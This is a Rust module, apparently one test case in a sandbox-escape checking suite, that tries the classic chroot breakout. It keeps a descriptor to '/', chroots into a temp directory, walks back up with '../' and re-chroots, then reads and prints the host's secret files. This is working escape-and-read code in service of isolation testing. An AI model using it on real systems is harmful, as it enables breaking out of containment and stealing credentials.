//! Does the old trick with a directory above the root lead out?

use std::fs;
use std::os::fd::AsRawFd;

use crate::attempt::{Attempt, Severity};
use crate::field::Field;
use crate::sys::{self, Arg};
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "changed-root",
    class: "mounts",
    severity: Severity::Critical,
    about: "Changes its root to a directory, walks up from one that it kept open above, and reads secret files.",
    make,
    ..Attempt::USUAL
};

fn make(field: &Field, token: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    let secrets = field.host.some(&field.host.secret_files, "host.secret_files")?;
    let outer = tried.call("open the root", fs::File::open("/"));
    let below = format!("/tmp/{}", token.text());
    tried.call("make a directory", fs::create_dir(&below));
    let path = format!("{below}\0");
    tried.call("chroot", sys::call(libc::SYS_chroot, &mut [Arg::In(path.as_bytes())]));
    if let Some(outer) = outer {
        tried.call("fchdir", sys::call(libc::SYS_fchdir, &mut [Arg::Number(outer.as_raw_fd() as u64)]));
    }
    tried.call("walk up", std::env::set_current_dir("../".repeat(32)));
    tried.call("chroot again", sys::call(libc::SYS_chroot, &mut [Arg::In(b".\0")]));
    for secret in secrets {
        if let Some(bytes) = tried.call("read", fs::read(secret.strip_prefix("/").unwrap_or(secret))) {
            tried.output(&bytes);
        }
    }
    // Within the new root there is no such path.
    let _ = fs::remove_dir(&below);
    Ok(())
}
